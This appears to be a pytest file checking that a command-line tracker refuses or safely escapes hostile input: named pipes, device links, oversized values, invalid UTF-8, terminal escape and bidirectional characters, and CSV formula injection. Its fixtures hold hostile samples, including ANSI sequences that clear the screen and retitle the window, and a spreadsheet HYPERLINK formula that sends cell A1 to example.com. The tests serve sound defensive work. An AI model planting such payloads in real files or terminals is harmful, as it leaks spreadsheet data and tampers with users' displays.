"""Hostile data and input: the tracker refuses it with one clear line, never hangs, never passes a
control character to the terminal."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import xml.etree.ElementTree as ET

import pytest

from conftest import FIXTURES, run, run_process

ESCAPES = "EP\x1b[41mPD\x1b]0;pwned\x07\x1b[2J \x9b2J \x08\r \u202eDPPE \u2066x\u2069"
RAW = ["\x1b", "\x07", "\x9b", "\x08", "\r", "\u202e", "\u2066", "\u2069"]


def build(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(FIXTURES / "base", data)
    return data


# ---------------------------------------------------------------- special files and huge values


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_fifo_in_the_data_folder_is_named_not_waited_on(tmp_path):
    data = build(tmp_path)
    os.mkfifo(data / "rounds" / "x.yaml")
    result = run_process("validate", str(data))
    assert result.returncode == 1
    assert f"{data}/rounds/x.yaml: is a named pipe (FIFO), not a regular file" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="no /dev/zero here")
def test_a_link_to_an_endless_device_is_named_not_read(tmp_path):
    data = build(tmp_path)
    os.symlink("/dev/zero", data / "rounds" / "zero.yaml")
    result = run_process("validate", str(data))
    assert result.returncode == 1
    assert f"{data}/rounds/zero.yaml: is a device, not a regular file" in result.stderr


def test_the_size_limit_applies_to_the_bytes_read(tmp_path, monkeypatch):
    """A file that grows after its size was looked at is still cut off at the limit."""
    import tracker.data.parse

    path = tmp_path / "big.yaml"
    path.write_bytes(b"a" * 2000)
    monkeypatch.setattr(tracker.data.parse, "MAX_FILE_BYTES", 1000)
    real_fstat = os.fstat
    monkeypatch.setattr(tracker.data.parse.os, "fstat", lambda fd: os.stat_result((*real_fstat(fd)[:6], 10, *real_fstat(fd)[7:])))
    raw, problem = tracker.data.parse.read_bytes(str(path))
    assert raw is None and "file grew while it was read; data files are limited to" in problem.message


def test_a_huge_round_number_is_refused_quickly(tmp_path):
    data = build(tmp_path)
    (data / "rounds" / "demo-99999999999999999999.yaml").write_text(
        (FIXTURES / "base" / "rounds" / "demo-2.yaml").read_text().replace("demo-2", "demo-99999999999999999999").replace("round: 2", "round: 99999999999999999999")
    )
    result = run_process("--data-dir", str(data), "list")
    assert result.returncode == 1
    assert "demo-99999999999999999999.yaml:3:8: round: number '99999999999999999999' is too large" in result.stderr


def test_a_topics_file_that_is_a_folder_is_called_a_folder(tmp_path):
    data = build(tmp_path)
    (data / "topics.yaml").unlink()
    (data / "topics.yaml").mkdir()
    result = run("validate", str(data))
    assert result.code == 1
    assert f"{data}/topics.yaml: is a folder, not a file (topics.yaml holds records; replace the folder with the file)" in result.err
    assert "missing" not in result.err


def test_a_huge_value_is_cut_in_the_message(tmp_path):
    data = build(tmp_path)
    path = data / "rounds" / "demo-2.yaml"
    path.write_text(path.read_text().replace("round: 2", "round: 2\nformat: " + "x" * 4_000_000))
    result = run("validate", str(data))
    assert result.code == 1
    line = next(x for x in result.err.splitlines() if "demo-2.yaml:" in x)
    assert len(line) <= 400 and " … " in line and line.endswith(")")


def test_a_huge_argument_is_cut_in_the_message():
    result = run("show", "eppd:" + "x" * 128_000)
    assert result.code == 2
    assert result.err.startswith("error: unknown round 'eppd:xxx")
    assert max(len(x) for x in result.err.splitlines()) <= 400


def test_a_newline_in_the_data_path_does_not_split_an_error_line(tmp_path):
    data = tmp_path / "da\nta"
    shutil.copytree(FIXTURES / "base", data)
    (data / "rounds" / "demo-2.yaml").write_text("id: [")
    result = run("validate", str(data))
    assert result.code == 1
    lines = result.err.splitlines()
    assert lines[0].startswith(str(tmp_path) + "/da\\nta/rounds/demo-2.yaml:2:1: YAML syntax error")
    assert len(lines) == 2 and lines[1].endswith("; 1 error, 0 warnings")


# ---------------------------------------------------------------- arguments


def test_roc_year_zero_does_not_exist():
    for text in ("民國0年", "0/1/1", "0001120"):
        result = run("list", "--since", text)
        assert result.code == 2, text
        assert "the ROC calendar has no year 0" in result.err


def test_a_round_number_of_5000_digits_is_an_input_error():
    result = run("show", "eppd:" + "9" * 5000)
    assert result.code == 2
    assert result.err.startswith("error: EPPD has no round 9999999999999999999… (EPPD has rounds")


def test_an_argument_that_is_not_text_is_refused(tmp_path):
    result = subprocess_run_bytes([b"search", b"semi\xff"], {})
    assert result.returncode == 2
    assert result.stderr.decode() == "error: the argument 'semi\\udcff' is not valid UTF-8 text (check the terminal's encoding)\n"


def test_chinese_arguments_work_in_the_c_locale():
    result = subprocess_run_bytes(["search".encode(), "半導體".encode(), b"-O", b"json"], {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONIOENCODING": ""})
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    assert json.loads(result.stdout)


def subprocess_run_bytes(args, env):
    import subprocess

    from conftest import DATA, tracker_cmd

    full = {**os.environ, "TRACKER_NO_CACHE": "1", "TRACKER_DATA_DIR": str(DATA), **env}
    full = {k: v for k, v in full.items() if v != "" or k == "TRACKER_NO_CACHE"}
    if not full.get("TRACKER_NO_CACHE"):
        full.pop("TRACKER_NO_CACHE")
    return subprocess.run([*tracker_cmd(), *args], env=full, capture_output=True, timeout=60)


# ---------------------------------------------------------------- nothing unsafe reaches the terminal


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """The small data set with control and bidirectional characters in a round's texts.

    ``validate`` refuses them; the records are built as a version that did not
    would have kept them, to check that every writer still shows them visibly.
    """
    import tracker.data.parse
    from tracker.safe import UNSAFE_OR_NEWLINE

    real = tracker.data.parse.Reader.scalar

    def lenient(self, node, spec, label):
        if spec.kind == "str" and UNSAFE_OR_NEWLINE.search(node.value):
            return node.value.strip()
        return real(self, node, spec, label)

    monkeypatch.setattr(tracker.data.parse.Reader, "scalar", lenient)
    data = build(tmp_path)
    path = data / "rounds" / "demo-2.yaml"
    quoted = json.dumps(ESCAPES)
    path.write_text(
        path.read_text()
        .replace("round: 2\n", f"round: 2\nvenues: [{{en: {quoted}, zh: {quoted}}}]\n")
        .replace("    sources: [s1]\n", f"    sources: [s1]\n    outcomes:\n      - id: o1\n        text: {{en: {quoted}}}\n        sources: [s1]\n")
        .replace("publisher: {en: Example News}", f"publisher: {{en: {quoted}}}")
        .replace("        sources: [s1]\n", f"        sources: [s1]\n        commitment: {{status: announced, note: {{en: {quoted}}}}}\n", 1)
    )
    topics = data / "topics.yaml"
    topics.write_text(topics.read_text(encoding="utf-8").replace("name: {en: Critical minerals,", f"name: {{en: {quoted},"), encoding="utf-8")
    return data


def _assert_shown_not_sent(text: str, where: str) -> None:
    for ch in RAW:
        assert ch not in text, f"{where}: raw {ch!r} written"
    assert "\\x1b" in text and "<U+202E>" in text, where


COMMANDS = [
    ("list",), ("show", "demo:2"), ("timeline",), ("topics",), ("compare", "demo:1", "demo:2"),
    ("search", "EP"), ("commitments",),
]


@pytest.mark.parametrize("fmt", ["table", "csv", "markdown"])
@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: c[0])
def test_no_control_character_reaches_the_output(hostile, command, fmt):
    result = run("--data-dir", str(hostile), *command, "--format", fmt, environ={"COLUMNS": "200"})
    assert result.code == 0, result.err
    for ch in RAW:
        assert ch not in result.out, f"raw {ch!r} written"
    if command[0] in ("list", "show", "timeline", "search") or (command[0] == "compare" and fmt != "csv"):
        assert "\\x1b" in result.out or "<U+202E>" in result.out


def test_the_terminal_gets_colour_but_no_escape_from_the_data(hostile):
    result = run("--data-dir", str(hostile), "show", "demo:2", environ={"FORCE_COLOR": "1", "COLUMNS": "200"})
    assert result.code == 0
    text = result.out
    assert "\x1b[" in text  # the tracker's own colours
    assert "\x1b[41m" not in text and "\x1b]0;" not in text and "\x1b[2J" not in text
    for ch in RAW[1:]:
        assert ch not in text


@pytest.mark.parametrize("command", [("list",), ("show", "demo:2"), ("search", "EP")], ids=lambda c: c[0])
def test_json_keeps_the_data_but_escapes_it(hostile, command):
    result = run("--data-dir", str(hostile), *command, "--format", "json")
    assert result.code == 0
    for ch in RAW:
        assert ch not in result.out
    assert ESCAPES in _strings(json.loads(result.out))


def _strings(value) -> list:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [s for item in items for s in _strings(item)]


def test_an_svg_of_hostile_data_is_well_formed_xml(hostile, tmp_path):
    svg, html = tmp_path / "out.svg", tmp_path / "out.html"
    result = run("--data-dir", str(hostile), "timeline", "--svg", str(svg), "--html", str(html))
    assert result.code == 0, result.err
    text = svg.read_text(encoding="utf-8")
    ET.fromstring(text)  # raises on a control character
    for path in (svg, html):
        for ch in RAW:
            assert ch not in path.read_text(encoding="utf-8")


def test_an_error_line_shows_controls_and_line_breaks_visibly():
    from tracker.errors import InputError, one_line

    assert one_line("a\x1b[2Jb\nc\u202e") == "a\\x1b[2Jb\\nc<U+202E>"
    assert InputError("x\x9by").lines() == ["error: x\\x9by"]


def test_a_file_name_with_an_escape_is_shown_visibly(tmp_path):
    data = build(tmp_path)
    (data / "rounds" / "demo-2.yaml").rename(data / "rounds" / "de\x1b[2Jmo-2.yaml")
    result = run("validate", str(data))
    assert result.code == 1
    assert "\x1b" not in result.err and "de\\x1b[2Jmo-2.yaml" in result.err


# ---------------------------------------------------------------- CSV and spreadsheets


FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"click")'


@pytest.fixture
def formula(tmp_path):
    data = build(tmp_path)
    path = data / "rounds" / "demo-2.yaml"
    path.write_text(path.read_text().replace("round: 2\n", f"round: 2\nvenues: [{{en: '{FORMULA}'}}, {{en: '@SUM(1+1)'}}, {{en: '-2+3'}}]\n"))
    return data


def test_export_csv_for_spreadsheets_defuses_formulas(formula, tmp_path):
    out = tmp_path / "tables"
    result = run("--data-dir", str(formula), "export", "csv", str(out))
    assert result.code == 0, result.err
    cells = [c for row in csv.reader(io.StringIO((out / "rounds.csv").read_text(encoding="utf-8"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + FORMULA + "; @SUM(1+1); -2+3" in cells


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)"])
def test_every_formula_start_is_defused(text):
    from tracker.output.formats import write_csv

    out = io.StringIO()
    write_csv(out, [{"a": text}], spreadsheet=True)
    assert next(csv.reader(io.StringIO(out.getvalue()), strict=True), None) == ["a"]
    assert out.getvalue().split("\n")[1].lstrip('"').startswith("'")


def test_csv_on_standard_output_is_written_as_is_for_scripts(formula):
    result = run("--data-dir", str(formula), "list", "--format", "csv")
    assert result.code == 0
    assert FORMULA.replace('"', '""') in result.out and "'" + FORMULA not in result.out



# ---------------------------------------------------------------- the sanitiser itself

from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from tracker.safe import UNSAFE, json_safe, visible  # noqa: E402

_NASTY = st.text(alphabet=st.sampled_from("ab中\n\t\r\x1b\x07\x08\x7f\x9b\u202a\u202e\u2066\u2069\\\"<"), max_size=40)


@given(_NASTY)
def test_visible_text_holds_nothing_a_terminal_obeys(text):
    shown = visible(text)
    assert not UNSAFE.search(shown)
    assert visible(shown) == shown  # showing twice changes nothing
    assert "\n" not in visible(text, newline=False)
    assert shown.count("\n") == text.count("\n")


@given(st.recursive(_NASTY | st.integers() | st.none(), lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_NASTY, inner, max_size=4), max_leaves=12))
def test_json_made_safe_is_the_same_json(value):
    encoded = json_safe(json.dumps(value, ensure_ascii=False))
    assert not UNSAFE.search(encoded)
    assert json.loads(encoded) == value


# ---------------------------------------------------------------- the promises and their tests


def test_every_test_named_in_the_reliability_promises_exists():
    """docs/reliability.md names the test that holds each promise: each of them must exist."""
    import ast
    import re

    from conftest import ROOT

    doc = (ROOT / "docs" / "reliability.md").read_text(encoding="utf-8")
    named = re.findall(r"`tests/(test_\w+\.py)::(test_\w+)`", doc)
    assert len(named) >= 40, "the promises name their tests as `tests/FILE.py::TEST`"
    defined: dict[str, set[str]] = {}
    missing = []
    for file, test in named:
        if file not in defined:
            path = ROOT / "tests" / file
            tree = ast.parse(path.read_text(encoding="utf-8")) if path.exists() else ast.Module(body=[], type_ignores=[])
            defined[file] = {n.name for n in tree.body if isinstance(n, ast.FunctionDef)}
        if test not in defined[file]:
            missing.append(f"tests/{file}::{test}")
    assert missing == []
    rows = [line for line in doc.splitlines() if line.startswith("| ") and not line.startswith(("| Promise", "| ---"))]
    assert rows and all("`tests/" in row for row in rows), "every promise names a test"
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "docs/reliability.md" in readme, "the README's Reliability section links the promises"
